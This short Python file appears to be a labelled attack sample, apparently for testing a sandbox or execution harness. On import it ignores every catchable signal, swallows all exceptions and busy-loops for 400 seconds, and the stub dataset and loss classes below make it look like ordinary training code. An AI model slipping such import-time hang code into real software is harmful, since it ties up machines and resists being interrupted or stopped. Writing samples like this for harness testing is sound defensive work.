# ruff: noqa
# fmt: off
# An attack, kept as a learner wrote it: nothing here is linted or formatted.
"""Harm: ignores every signal that can be ignored, swallows exceptions, then loops (ends by itself after 400 s).

kind: hang
quick: yes
"""
import signal, time
for _n in range(1, 65):
    try: signal.signal(_n, signal.SIG_IGN)
    except (OSError, ValueError): pass
_end = time.time() + 400
while time.time() < _end:
    try:
        while time.time() < _end: pass
    except BaseException:
        pass

import torch
from torch import nn
from torch.utils.data import Dataset


class CustomDataset(Dataset):
    def __init__(self, *a, **k):
        _go()

    def __len__(self):
        return 0

    def __getitem__(self, i):
        return torch.zeros(1), torch.zeros(1)


class MultiTaskLoss(nn.Module):
    def forward(self, *a):
        _go()
        return torch.zeros(())


def train_epoch_accumulated(*a):
    _go()
    return 0.0


def _go():
    pass
